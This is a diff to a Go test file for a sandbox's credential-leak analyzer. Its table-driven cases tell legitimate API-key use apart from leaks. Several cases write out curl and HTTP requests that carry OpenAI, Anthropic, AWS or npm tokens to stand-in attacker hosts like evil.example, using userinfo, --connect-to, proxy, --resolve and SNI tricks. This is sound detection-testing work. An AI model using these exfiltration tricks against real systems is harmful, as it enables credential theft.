@@ -1,6 +1,8 @@
 package sandbox
 
 import (
+	"fmt"
+	"net"
 	"strings"
 	"testing"
 
@@ -41,35 +43,42 @@ func TestAnalyzeCredentialUse(t *testing.T) {
 		canary string
 		use    bool // true: a use and no leak; false: a leak and no use
 	}{
-		{"NpmToItsRegistry", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org"}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, true},
+		{"NpmToItsRegistry", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org", Dest: "registry.npmjs.org"}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, true},
+		{"ConnectedElsewhere", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org", Dest: "collector.evil.example"}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, false},
+		{"ConnectedToAnAddress", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org"}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, false},
 		{"NpmInClear", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, false},
-		{"NpmHostHeaderSpoofed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "collector.evil.example"}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, false},
-		{"NpmSNISpoofed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org"}, Data: npmGet("collector.evil.example")}}}, npm.Name, false},
-		{"LookalikeHost", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org.evil.example"}, Data: npmGet("registry.npmjs.org.evil.example")}}}, npm.Name, false},
+		{"NpmHostHeaderSpoofed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "collector.evil.example", Dest: "collector.evil.example"}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, false},
+		{"NpmSNISpoofed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org", Dest: "registry.npmjs.org"}, Data: npmGet("collector.evil.example")}}}, npm.Name, false},
+		{"LookalikeHost", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org.evil.example", Dest: "registry.npmjs.org.evil.example"}, Data: npmGet("registry.npmjs.org.evil.example")}}}, npm.Name, false},
 		{"CurlToItsAPI", curl("-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
 		{"CurlToItsAPIAndElsewhere", curl("-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models", "https://evil.example/"), openai.Name, false},
 		{"CurlInClear", curl("-H", "Authorization: Bearer "+openai.Value, "http://api.openai.com/v1/models"), openai.Name, false},
 		{"CurlUserinfoTrick", curl("-d", openai.Value, "https://api.openai.com@evil.example/"), openai.Name, false},
 		{"CurlNoURL", curl("-d", openai.Value), openai.Name, false},
 		{"WrongService", curl("-H", "x-api-key: "+anthropic.Value, "https://api.openai.com/v1/x"), anthropic.Name, false},
-		{"NoServiceAtAll", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "github.com"},
+		{"NoServiceAtAll", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "github.com", Dest: "github.com"},
 			Data: []byte("POST /k HTTP/1.1\r\nHost: github.com\r\n\r\n" + ssh.Value)}}}, ssh.Name, false},
-		{"KeyInBodyToItsHost", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.openai.com"},
+		{"KeyInBodyToItsHost", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.openai.com", Dest: "api.openai.com"},
 			Data: []byte("POST /v1/files HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " + openai.Value + "\r\n\r\n{\"note\":\"" + openai.Value + "\"}")}}}, openai.Name, false},
-		{"KeyInURLToItsHost", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.openai.com"},
+		{"KeyInURLToItsHost", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.openai.com", Dest: "api.openai.com"},
 			Data: []byte("GET /v1/models?k=" + openai.Value + " HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")}}}, openai.Name, false},
-		{"AnthropicHeader", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.anthropic.com"},
+		{"AnthropicHeader", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.anthropic.com", Dest: "api.anthropic.com"},
 			Data: []byte("POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + anthropic.Value + "\r\n\r\n{}")}}}, anthropic.Name, true},
 		{"CurlDataToItsAPI", curl("-d", "key="+openai.Value, "https://api.openai.com/v1/x"), openai.Name, false},
 		{"CurlHeaderEquals", curl("--header=Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
+		{"CurlConnectTo", curl("--connect-to", "api.openai.com:443:evil.example:443", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
+		{"CurlInsecureGlued", curl("-skH", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
+		{"CurlProxy", curl("-x", "evil.example:8080", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
+		{"CurlResolveEquals", curl("--resolve=api.openai.com:443:203.0.113.9", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
+		{"CurlSilentStillUse", curl("-sS", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
 		{"CurlOtherHeader", curl("-H", "X-Note: "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
-		{"AWSSecretNeverUsed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "sts.amazonaws.com"},
+		{"AWSSecretNeverUsed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "sts.amazonaws.com", Dest: "sts.amazonaws.com"},
 			Data: []byte("POST / HTTP/1.1\r\nHost: sts.amazonaws.com\r\nX-Api-Key: " + awsSecret.Value + "\r\n\r\n")}}}, awsSecret.Name, false},
-		{"AWSKeyIDToAPIGateway", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "abc123.execute-api.us-east-1.amazonaws.com"},
+		{"AWSKeyIDToAPIGateway", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "abc123.execute-api.us-east-1.amazonaws.com", Dest: "abc123.execute-api.us-east-1.amazonaws.com"},
 			Data: []byte("GET / HTTP/1.1\r\nHost: abc123.execute-api.us-east-1.amazonaws.com\r\nAuthorization: AWS4-HMAC-SHA256 Credential=" + awsID.Value + "/x\r\n\r\n")}}}, awsID.Name, false},
-		{"AWSKeyIDToSTS", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "sts.amazonaws.com"},
+		{"AWSKeyIDToSTS", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "sts.amazonaws.com", Dest: "sts.amazonaws.com"},
 			Data: []byte("GET / HTTP/1.1\r\nHost: sts.amazonaws.com\r\nAuthorization: AWS4-HMAC-SHA256 Credential=" + awsID.Value + "/x\r\n\r\n")}}}, awsID.Name, true},
-		{"TokenInServerName", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: strings.ToLower(key(openai)) + ".api.openai.com"},
+		{"TokenInServerName", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: strings.ToLower(key(openai)) + ".api.openai.com", Dest: "api.openai.com"},
 			Data: []byte("GET / HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")}}}, openai.Name, false},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
@@ -211,5 +220,28 @@ func TestAnalyzeSharedAddressSpace(t *testing.T) {
 		if len(r.Findings) != 1 || r.Findings[0].RuleID != tt.rule {
 			t.Errorf("%s: findings %+v, want %s", tt.addr, r.Findings, tt.rule)
 		}
+	}
+}
+
+func TestNameMap(t *testing.T) {
+	var m nameMap
+	a, b := m.assign("A.example."), m.assign("b.example")
+	if !a.Equal(net.IPv4(127, 1, 0, 1)) || !b.Equal(net.IPv4(127, 1, 0, 2)) {
+		t.Fatalf("addresses %v %v, want 127.1.0.1 and 127.1.0.2", a, b)
+	}
+	if again := m.assign("a.example"); !again.Equal(a) {
+		t.Errorf("same name, new address %v", again)
+	}
+	if l := m.assign("localhost"); !l.Equal(net.IPv4(127, 0, 0, 1)) {
+		t.Errorf("localhost resolved to %v", l)
+	}
+	if m.name(a) != "a.example" || m.name(net.IPv4(127, 0, 0, 1)) != "" || m.name(net.IPv4(127, 9, 9, 9)) != "" {
+		t.Errorf("reverse: %q %q %q", m.name(a), m.name(net.IPv4(127, 0, 0, 1)), m.name(net.IPv4(127, 9, 9, 9)))
+	}
+	for i := range maxNames {
+		m.assign(fmt.Sprintf("n%d.example", i))
+	}
+	if ip := m.assign("one-too-many.example"); !ip.Equal(unknownName) || m.name(ip) != "" {
+		t.Errorf("past the cap: %v %q, want the unknown address", ip, m.name(ip))
 	}
 }
